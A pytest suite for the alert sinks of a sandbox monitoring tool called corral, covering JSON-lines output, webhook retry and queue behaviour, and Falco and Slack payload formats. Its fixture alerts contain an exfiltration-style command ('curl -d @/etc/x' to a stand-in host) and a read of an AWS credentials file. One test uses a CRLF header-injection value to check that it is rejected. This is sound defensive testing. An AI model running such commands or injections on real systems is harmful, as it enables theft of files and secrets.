"""Alert sinks: JSON lines, stdout, and the webhook with its on-disk queue.

Webhook tests talk only to HTTP servers they start on 127.0.0.1 (random
ports); "down" is a free loopback port nothing listens on yet.
"""

from __future__ import annotations

import io
import json
import logging
import re
import socket
import threading
import time
from collections import deque
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, TypedDict

import pytest

from corral import events as ev
from corral.detect.engine import Alert
from corral.enrich.proctable import Process
from corral.respond import sinks
from corral.respond.sinks import (
    FALCO_PRIORITY,
    SPEC_FORMS,
    JsonLinesSink,
    Sink,
    SinkError,
    StdoutSink,
    WebhookSink,
    make_sink,
)


class _Fast(TypedDict):
    min_backoff_s: float
    max_backoff_s: float
    timeout: float


#: small backoff and timeouts, so that tests retry quickly and end soon
FAST: _Fast = {"min_backoff_s": 0.02, "max_backoff_s": 0.1, "timeout": 2.0}


@pytest.fixture(autouse=True)
def _no_proxies(monkeypatch: pytest.MonkeyPatch) -> None:
    """urllib honours proxy variables: make sure requests to 127.0.0.1 go straight there."""
    for name in ("http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("no_proxy", "*")


# ---------------------------------------------------------------- test helpers


def make_alert(n: int = 0, *, severity: str = "high", kind: str = "flow", **data: Any) -> dict[str, Any]:
    proc = Process(pid=4200 + n, ppid=41, comm="curl", exe="/usr/bin/curl", argv=("curl", "-d", "@/etc/x", "http://h"),
                   cwd="/work", uid=1000)
    if kind == "flow" and not data:
        data = {"dip": "203.0.113.7", "dport": 443, "sport": 51000, "proto": "tcp", "family": "inet",
                "sni": "paste.example", "direction": "out"}
    event = ev.DerivedEvent.make(kind, pid=proc.pid, ppid=41, uid=1000, sandbox_id=3, step_id=2, comm="curl",
                                 cgroup_id=77, proc=proc, **data)
    alert = Alert(rule=f"Rule {n}", severity=severity, category="exfiltration", tags=("T1041", "corral"),
                  output=f"upload <{n}> & more by curl", action="kill_tree", event=event, source="default",
                  sandbox="agent-sb", episode="ep-1", step_cmdline="python agent.py --task 7",
                  parents=("bash[41]", "python[40]"))
    alert.action_taken, alert.action_result = "kill_tree", "killed 2"
    return alert.to_dict()


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Receiver:
    """An HTTP server on 127.0.0.1 that records each POST and answers the
    statuses given, in order, then 200."""

    def __init__(self, port: int = 0, statuses: tuple[int, ...] = (), headers: dict[str, str] | None = None) -> None:
        self.requests: list[tuple[str, dict[str, str], bytes, int]] = []
        self.statuses: deque[int] = deque(statuses)
        self.cond = threading.Condition()
        receiver = self
        extra = headers or {}

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                with receiver.cond:
                    status = receiver.statuses.popleft() if receiver.statuses else 200
                    receiver.requests.append((self.path, dict(self.headers.items()), body, status))
                    receiver.cond.notify_all()
                self.send_response(status)
                for key, value in extra.items():
                    self.send_header(key, value)
                if 300 <= status < 400:
                    self.send_header("Location", "/elsewhere")
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, format: str, *args: Any) -> None:
                pass

        ThreadingHTTPServer.allow_reuse_address = True
        self.server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.server.daemon_threads = True
        self.port = int(self.server.server_address[1])
        self.url = f"http://127.0.0.1:{self.port}/alerts"
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def wait_for(self, n: int, timeout: float = 10.0) -> bool:
        end = time.monotonic() + timeout
        with self.cond:
            while len(self.requests) < n:
                left = end - time.monotonic()
                if left <= 0:
                    return False
                self.cond.wait(left)
            return True

    def ok_ids(self) -> list[str]:
        """Alert ids of the requests answered 2xx, in arrival order."""
        with self.cond:
            return [json.loads(body)["id"] for _, _, body, status in self.requests if 200 <= status < 300]

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    r = Receiver()
    yield r
    r.stop()


def queued(queue_dir: Path) -> list[str]:
    return sorted(p.name for p in queue_dir.iterdir() if p.is_file() and p.name.endswith(".json"))


# ------------------------------------------------------------------ local sinks


def test_jsonl_appends_one_valid_object_per_line(tmp_path: Path) -> None:
    path = tmp_path / "deep" / "er" / "alerts.jsonl"
    alerts = [make_alert(i) for i in range(5)]
    with JsonLinesSink(path) as sink:
        for a in alerts[:3]:
            sink.send(a)
        assert len(path.read_text().splitlines()) == 3  # flushed per alert, before close
    with JsonLinesSink(path, fsync=True) as sink:  # a second run appends
        for a in alerts[3:]:
            sink.send(a)
    lines = path.read_text().splitlines()
    assert [json.loads(line) for line in lines] == json.loads(json.dumps(alerts))
    assert isinstance(JsonLinesSink(path), Sink)


def test_jsonl_from_many_threads(tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    sink = JsonLinesSink(path)
    alert = make_alert(1)

    def burst(t: int) -> None:
        for i in range(50):
            sink.send({**alert, "id": f"{t}-{i}", "output": "x" * 3000})

    threads = [threading.Thread(target=burst, args=(t,)) for t in range(4)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    sink.close()
    ids = [json.loads(line)["id"] for line in path.read_text().splitlines()]
    assert sorted(ids) == sorted(f"{t}-{i}" for t in range(4) for i in range(50))
    with pytest.raises(SinkError):
        sink.send(alert)


def test_jsonl_unwritable_path_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(SinkError, match="cannot open"):
        JsonLinesSink(tmp_path / "file" / "alerts.jsonl")


def test_stdout_json_and_line() -> None:
    alert = make_alert(3)
    out = io.StringIO()
    StdoutSink(out).send(alert)
    assert json.loads(out.getvalue()) == alert
    out = io.StringIO()
    sink = StdoutSink(out, fmt="line")
    sink.send(alert)
    sink.close()
    assert out.getvalue() == ("corral: HIGH [exfiltration] Rule 3: upload <3> & more by curl "
                              "[agent-sb step 2, pid 4203] -> kill_tree (killed 2)\n")
    with pytest.raises(SinkError):
        StdoutSink(out, fmt="xml")


def test_alert_line_matches_alert_line() -> None:
    proc = Process(pid=9, ppid=1, comm="sh", exe="/bin/sh", argv=("sh",), cwd="/", uid=0)
    event = ev.DerivedEvent.make("scan", pid=9, sandbox_id=5, step_id=1, proc=proc, hosts=3)
    alert = Alert(rule="Scan", severity="medium", category="recon", tags=(), output="scan", action="alert",
                  event=event, source="default", folded=4)
    assert sinks.alert_line(alert.to_dict()) == alert.line()


# ---------------------------------------------------------------------- webhook


def test_webhook_delivers_with_id_header(tmp_path: Path, receiver: Receiver) -> None:
    alerts = [make_alert(i) for i in range(3)]
    sink = WebhookSink(receiver.url, queue_dir=tmp_path / "q", headers={"Authorization": "Bearer t0k"}, **FAST)
    try:
        for a in alerts:
            sink.send(a)
        assert sink.flush(10)
        assert sink.pending() == 0
    finally:
        sink.close(timeout=1)
    assert [r[0] for r in receiver.requests] == ["/alerts"] * 3
    for (_, headers, body, _), alert in zip(receiver.requests, alerts, strict=True):
        assert json.loads(body) == alert  # json format: the alert dict as is
        assert headers["X-Corral-Alert-Id"] == alert["id"]
        assert headers["Content-Type"] == "application/json"
        assert headers["Authorization"] == "Bearer t0k"
    assert queued(tmp_path / "q") == []
    assert sink.delivered == 3
    assert isinstance(sink, Sink)


def test_webhook_down_then_up_loses_nothing(tmp_path: Path) -> None:
    port = free_port()  # nothing listens here yet: connections are refused
    url = f"http://127.0.0.1:{port}/hook"
    sink = WebhookSink(url, queue_dir=tmp_path / "q", **FAST)
    alerts = [make_alert(i) for i in range(6)]
    server = None
    try:
        for a in alerts:
            sink.send(a)
        deadline = time.monotonic() + 5
        while sink.attempts < 3 and time.monotonic() < deadline:
            time.sleep(0.02)
        assert sink.attempts >= 3, "the sender should keep retrying while the endpoint is down"
        assert sink.pending() == 6
        assert len(queued(tmp_path / "q")) == 6
        assert sink.last_error
        server = Receiver(port=port)
        assert sink.flush(10), f"{sink.pending()} still queued: {sink.last_error}"
        ids = server.ok_ids()
        assert set(ids) == {a["id"] for a in alerts}  # every one arrived (at least once)
        assert list(dict.fromkeys(ids)) == [a["id"] for a in alerts]  # in order
        assert queued(tmp_path / "q") == []
    finally:
        sink.close(timeout=1)
        if server is not None:
            server.stop()


def test_webhook_queue_survives_a_restart(tmp_path: Path) -> None:
    port = free_port()
    url = f"http://127.0.0.1:{port}/hook"
    qdir = tmp_path / "q"
    first = WebhookSink(url, queue_dir=qdir, **FAST)
    old = [make_alert(i) for i in range(4)]
    for a in old:
        first.send(a)
    first.close(timeout=0.3)  # the endpoint is down: close gives up and leaves the files
    assert first.pending() == 4
    names = queued(qdir)
    assert len(names) == 4
    assert [json.loads((qdir / n).read_text())["id"] for n in names] == [a["id"] for a in old]  # names keep order
    with pytest.raises(SinkError):
        first.send(make_alert(9))

    server = Receiver(port=port)
    try:
        second = WebhookSink(url, queue_dir=qdir, **FAST)
        assert second.pending() >= 3  # found on disk (the sender may be on the first already)
        new = make_alert(5)
        second.send(new)
        assert second.flush(10), second.last_error
        second.close(timeout=1)
        ids = server.ok_ids()
        assert list(dict.fromkeys(ids)) == [a["id"] for a in [*old, new]]
        assert queued(qdir) == []
    finally:
        server.stop()


def test_webhook_retries_5xx_and_429(tmp_path: Path) -> None:
    server = Receiver(statuses=(503, 500, 429), headers={"Retry-After": "0"})
    try:
        sink = WebhookSink(server.url, queue_dir=tmp_path / "q", **FAST)
        alert = make_alert(1)
        sink.send(alert)
        assert sink.flush(10), sink.last_error
        sink.close(timeout=1)
        assert [r[3] for r in server.requests] == [503, 500, 429, 200]
        assert all(r[1]["X-Corral-Alert-Id"] == alert["id"] for r in server.requests)
        assert sink.delivered == 1
        assert sink.dead == 0
        assert queued(tmp_path / "q") == []
    finally:
        server.stop()


def test_webhook_4xx_goes_to_dead_and_is_not_retried(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    server = Receiver(statuses=(400,))
    qdir = tmp_path / "q"
    try:
        sink = WebhookSink(server.url, queue_dir=qdir, **FAST)
        refused, fine = make_alert(1), make_alert(2)
        with caplog.at_level(logging.ERROR, logger="corral.respond.sinks"):
            sink.send(refused)
            sink.send(fine)
            assert sink.flush(10)
            time.sleep(0.3)  # time enough for several retries, were there any
        sink.close(timeout=1)
        assert [json.loads(r[2])["id"] for r in server.requests] == [refused["id"], fine["id"]]
        assert sink.dead == 1
        assert sink.delivered == 1
        dead = queued(qdir / "dead")
        assert len(dead) == 1
        assert json.loads((qdir / "dead" / dead[0]).read_text()) == refused
        assert queued(qdir) == []
        lines = [r.getMessage() for r in caplog.records if refused["id"] in r.getMessage()]
        assert len(lines) == 1
        assert "HTTP 400" in lines[0]
        assert "dead" in lines[0]
    finally:
        server.stop()
    # a new run does not resend what is dead
    server = Receiver()
    try:
        again = WebhookSink(server.url, queue_dir=qdir, **FAST)
        assert again.pending() == 0
        again.close(timeout=1)
        assert server.requests == []
    finally:
        server.stop()


def test_webhook_does_not_follow_redirects(tmp_path: Path) -> None:
    server = Receiver(statuses=(302,))
    try:
        sink = WebhookSink(server.url, queue_dir=tmp_path / "q", **FAST)
        sink.send(make_alert(1))
        assert sink.flush(10)
        sink.close(timeout=1)
        assert len(server.requests) == 1  # not re-sent anywhere as a GET
        assert sink.dead == 1
        assert len(queued(tmp_path / "q" / "dead")) == 1
    finally:
        server.stop()


def test_webhook_many_threads(tmp_path: Path, receiver: Receiver) -> None:
    sink = WebhookSink(receiver.url, queue_dir=tmp_path / "q", **FAST)
    base = make_alert(0)

    def burst(t: int) -> None:
        for i in range(15):
            sink.send({**base, "id": f"t{t}x{i}"})

    threads = [threading.Thread(target=burst, args=(t,)) for t in range(4)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert sink.flush(20), sink.last_error
    sink.close(timeout=1)
    ids = receiver.ok_ids()
    assert sorted(ids) == sorted(f"t{t}x{i}" for t in range(4) for i in range(15))
    for t in range(4):  # each thread's alerts in the order it sent them
        mine = [i for i in ids if i.startswith(f"t{t}x")]
        assert mine == [f"t{t}x{i}" for i in range(15)]


def test_webhook_leftovers_corrupt_and_partial_files(tmp_path: Path, receiver: Receiver) -> None:
    qdir = tmp_path / "q"
    qdir.mkdir()
    good = make_alert(1)
    (qdir / f"{1:020d}-{good['id']}.json").write_text(json.dumps(good))
    (qdir / f"{2:020d}-broken.json").write_text('{"id": "half')  # not JSON: kept aside, not retried
    (qdir / f".tmp-{3:020d}-x.json").write_text("{")  # a write that never finished
    sink = WebhookSink(receiver.url, queue_dir=qdir, **FAST)
    assert sink.flush(10)
    sink.close(timeout=1)
    assert receiver.ok_ids() == [good["id"]]
    assert queued(qdir / "dead") == [f"{2:020d}-broken.json"]
    assert [p.name for p in qdir.iterdir() if p.name.startswith(".tmp-")] == []
    # new names sort after whatever was there before
    again = WebhookSink(receiver.url, queue_dir=qdir, **FAST)
    again.close(timeout=0)


def test_one_sink_per_queue_dir(tmp_path: Path) -> None:
    url = f"http://127.0.0.1:{free_port()}/"
    first = WebhookSink(url, queue_dir=tmp_path / "q", **FAST)
    with pytest.raises(SinkError, match="in use"):
        WebhookSink(url, queue_dir=tmp_path / "q", **FAST)
    first.close(timeout=0)
    WebhookSink(url, queue_dir=tmp_path / "q", **FAST).close(timeout=0)


def test_webhook_unrenderable_alert_is_kept_aside(tmp_path: Path, receiver: Receiver) -> None:
    sink = WebhookSink(receiver.url, queue_dir=tmp_path / "q", fmt="falco", hostname="h1", **FAST)
    sink.send({"id": "odd", "rule": "R", "tags": 5})  # tags not a list: no Falco payload can be made
    good = make_alert(1)
    sink.send(good)
    assert sink.flush(10)
    sink.close(timeout=1)
    assert [json.loads(r[2])["output_fields"]["corral.alert_id"] for r in receiver.requests] == [good["id"]]
    assert json.loads(receiver.requests[0][2])["hostname"] == "h1"
    assert sink.dead == 1
    assert len(queued(tmp_path / "q" / "dead")) == 1


def test_webhook_bad_arguments(tmp_path: Path) -> None:
    with pytest.raises(SinkError, match="header"):
        WebhookSink("http://127.0.0.1:9/x", queue_dir=tmp_path / "q", headers={"X-A": "1\r\nX-B: 2"})
    with pytest.raises(SinkError, match="http"):
        WebhookSink("ftp://127.0.0.1/x", queue_dir=tmp_path / "q")
    with pytest.raises(SinkError, match="format"):
        WebhookSink("http://127.0.0.1:9/x", queue_dir=tmp_path / "q", fmt="xml")


# --------------------------------------------------------------------- payloads

_FALCO_TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z")


def test_falco_payload_shape() -> None:
    alert = make_alert(1, severity="critical")
    payload = sinks.falco_payload(alert, hostname="host-a")
    assert set(payload) == {"uuid", "output", "priority", "rule", "time", "output_fields", "source", "tags",
                            "hostname"}
    assert payload["priority"] == "Critical"
    assert payload["rule"] == "Rule 1"
    assert payload["source"] == "corral"
    assert payload["hostname"] == "host-a"
    assert payload["tags"] == ["T1041", "corral"]
    assert payload["uuid"] == str(__import__("uuid").UUID(alert["id"]))
    assert _FALCO_TIME.fullmatch(payload["time"]), payload["time"]
    # time is the event's, to the nanosecond; the output starts "<time>: <Priority> "
    assert sinks.parse_time_ns(payload["time"]) == sinks.parse_time_ns(alert["event_time"])
    iso = payload["time"][:-1] + "+0000"
    assert payload["output"] == f"{iso}: Critical upload <1> & more by curl"
    fields = payload["output_fields"]
    assert fields["evt.type"] == "flow"
    assert fields["evt.time"] == sinks.parse_time_ns(alert["event_time"])
    assert fields["proc.name"] == "curl"
    assert fields["proc.exepath"] == "/usr/bin/curl"
    assert fields["proc.cmdline"] == "curl -d @/etc/x http://h"
    assert fields["proc.pid"] == 4201
    assert fields["proc.ppid"] == 41
    assert fields["proc.pname"] == "bash"
    assert fields["user.uid"] == 1000
    assert fields["sandbox.name"] == "agent-sb"
    assert fields["sandbox.id"] == 3
    assert fields["step.id"] == 2
    assert fields["step.cmdline"] == "python agent.py --task 7"
    assert fields["episode.id"] == "ep-1"
    assert fields["net.dip"] == fields["fd.rip"] == "203.0.113.7"
    assert fields["net.dport"] == fields["fd.rport"] == 443
    assert fields["net.sni"] == "paste.example"
    assert fields["fd.l4proto"] == "tcp"
    assert fields["corral.alert_id"] == alert["id"]
    assert fields["corral.action_taken"] == "kill_tree"
    assert fields["corral.parents"] == "bash[41],python[40]"
    for value in fields.values():  # Falco's output_fields hold scalars only
        assert value is None or isinstance(value, (str, int, float, bool))
    # what falcosidekick's FalcoPayload.Check() demands
    assert payload["priority"] and payload["rule"] and payload["output_fields"]


@pytest.mark.parametrize(("severity", "priority"), sorted(FALCO_PRIORITY.items()))
def test_falco_priority_mapping(severity: str, priority: str) -> None:
    assert sinks.falco_payload(make_alert(0, severity=severity))["priority"] == priority


def test_falco_priorities_are_falcos() -> None:
    assert FALCO_PRIORITY == {"critical": "Critical", "high": "Error", "medium": "Warning", "low": "Notice",
                              "info": "Informational"}


def test_falco_fields_of_kernel_events() -> None:
    proc = Process(pid=7, ppid=1, comm="cat", exe="/usr/bin/cat", argv=("cat", "/home/u/.aws/credentials"),
                   cwd="/home/u", uid=1000)
    event = {"kind": "open", "time": "2025-01-02T03:04:05.000006Z", "ts_ns": 1, "pid": 7, "tid": 7, "ppid": 1,
             "uid": 1000, "comm": "cat", "cgroup_id": 5, "sandbox_id": 2, "step_id": 1,
             "path": "/home/u/.aws/credentials", "path2": "", "flags": 0, "result": 3, "match": ["canary"], "dev": 1,
             "ino": 2,
             "proc": {"exe": proc.exe, "name": proc.name, "cmdline": proc.cmdline, "cwd": proc.cwd}}
    alert = {**make_alert(0), "event": event, "event_time": event["time"]}
    fields = sinks.falco_fields(alert)
    assert fields["file.path"] == fields["fd.name"] == "/home/u/.aws/credentials"
    assert fields["evt.res"] == 3
    assert fields["evt.arg.match"] == "canary"
    assert fields["evt.time"] == 1735787045000006000
    connect = {**event, "kind": "connect", "family": "inet", "addr": "198.51.100.1", "port": 22, "local_port": 40000,
               "sock_type": "stream", "protocol": 6, "result": 0, "fd": 3, "unix_path": ""}
    for key in ("path", "path2", "flags", "match", "dev", "ino"):
        del connect[key]
    fields = sinks.falco_fields({**alert, "event": connect})
    assert (fields["net.dip"], fields["net.dport"], fields["net.sport"], fields["net.proto"]) == (
        "198.51.100.1", 22, 40000, "tcp")
    assert (fields["fd.rip"], fields["fd.rport"], fields["fd.lport"]) == ("198.51.100.1", 22, 40000)
    dns = {k: v for k, v in event.items() if k not in ("path", "path2", "flags", "result", "match", "dev", "ino")}
    dns.update(kind="dns", name="x.example", qtype="TXT", answers=["1.2.3.4", "5.6.7.8"])
    fields = sinks.falco_fields({**alert, "event": dns})
    assert (fields["dns.name"], fields["dns.qtype"], fields["dns.answers"]) == ("x.example", "TXT", "1.2.3.4,5.6.7.8")


def test_falco_over_http(tmp_path: Path, receiver: Receiver) -> None:
    sink = make_sink(f"falco:{receiver.url}", tmp_path, **FAST)
    alert = make_alert(4, severity="medium")
    sink.send(alert)
    assert isinstance(sink, WebhookSink)
    assert sink.flush(10)
    sink.close()
    _, headers, body, _ = receiver.requests[0]
    payload = json.loads(body)
    assert headers["X-Corral-Alert-Id"] == alert["id"]
    assert payload["priority"] == "Warning"
    assert payload["output_fields"]["corral.alert_id"] == alert["id"]
    assert _FALCO_TIME.fullmatch(payload["time"])


def test_slack_payload_shape(tmp_path: Path, receiver: Receiver) -> None:
    alert = make_alert(2, severity="critical")
    payload = sinks.slack_payload(alert)
    assert set(payload) == {"text", "attachments"}
    assert payload["text"] == "*CRITICAL* Rule 2: upload &lt;2&gt; &amp; more by curl"
    att = payload["attachments"][0]
    assert att["color"] == sinks.SLACK_COLOUR["critical"]
    assert att["title"] == "Rule 2"
    assert att["fallback"].startswith("corral CRITICAL: Rule 2")
    fields = {f["title"]: f["value"] for f in att["fields"]}
    assert fields["Sandbox"] == "agent-sb (id 3)"
    assert fields["Step"] == "2 `python agent.py --task 7`"
    assert fields["Action"] == "kill_tree (killed 2)"
    assert fields["Process"] == "pid 4202 `curl -d @/etc/x http://h` &lt;- bash[41] &lt;- python[40]"
    assert fields["Alert id"] == alert["id"]
    assert isinstance(att["ts"], int)
    colours = {sev: sinks.slack_payload(make_alert(0, severity=sev))["attachments"][0]["color"]
               for sev in FALCO_PRIORITY}
    assert len(set(colours.values())) == 5

    sink = make_sink(f"slack:{receiver.url}", tmp_path, **FAST)
    sink.send(alert)
    assert isinstance(sink, WebhookSink)
    assert sink.flush(10)
    sink.close()
    assert json.loads(receiver.requests[0][2]) == payload


def test_time_helpers() -> None:
    ns = 1_700_000_000_123_456_789
    assert sinks.parse_time_ns(sinks.rfc3339_ns(ns)) == ns
    assert sinks.rfc3339_ns(ns) == "2023-11-14T22:13:20.123456789Z"
    assert sinks.rfc3339_ns(ns, zulu=False) == "2023-11-14T22:13:20.123456789+0000"
    assert sinks.parse_time_ns("2023-11-14T23:13:20.5+01:00") == 1_700_000_000_500_000_000
    assert sinks.parse_time_ns(ev.rfc3339(ns)) == ns // 1000 * 1000
    assert sinks.parse_time_ns("yesterday") is None


# ------------------------------------------------------------------- make_sink


def test_make_sink_specs(tmp_path: Path) -> None:
    s = make_sink("stdout", tmp_path)
    assert isinstance(s, StdoutSink) and s.fmt == "json"
    s = make_sink("stdout:line", tmp_path)
    assert isinstance(s, StdoutSink) and s.fmt == "line"
    s = make_sink(f"jsonl:{tmp_path}/out/a.jsonl", tmp_path)
    assert isinstance(s, JsonLinesSink) and s.path == tmp_path / "out" / "a.jsonl"
    s.close()
    port = free_port()
    made = []
    for kind, fmt in (("webhook", "json"), ("slack", "slack"), ("falco", "falco")):
        s = make_sink(f"{kind}:http://127.0.0.1:{port}/{kind}", tmp_path / "state")
        made.append(s)
        assert isinstance(s, WebhookSink)
        assert s.fmt == fmt
        assert s.url == f"http://127.0.0.1:{port}/{kind}"
        assert s.queue_dir.parent == tmp_path / "state" / "queue"
        assert s.queue_dir.name.startswith(kind + "-")
    assert len({s.queue_dir for s in made if isinstance(s, WebhookSink)}) == 3
    for s in made:
        s.close()


@pytest.mark.parametrize("spec", ["", "nope", "jsonl:", "stdout:xml", "webhook:", "webhook:ftp://127.0.0.1/",
                                  "slack:127.0.0.1/x", "http://127.0.0.1/x", "file:/tmp/x"])
def test_make_sink_errors(spec: str, tmp_path: Path) -> None:
    with pytest.raises(SinkError) as info:
        make_sink(spec, tmp_path)
    message = str(info.value)
    assert repr(spec) in message
    assert SPEC_FORMS in message
    assert not (tmp_path / "queue").exists()
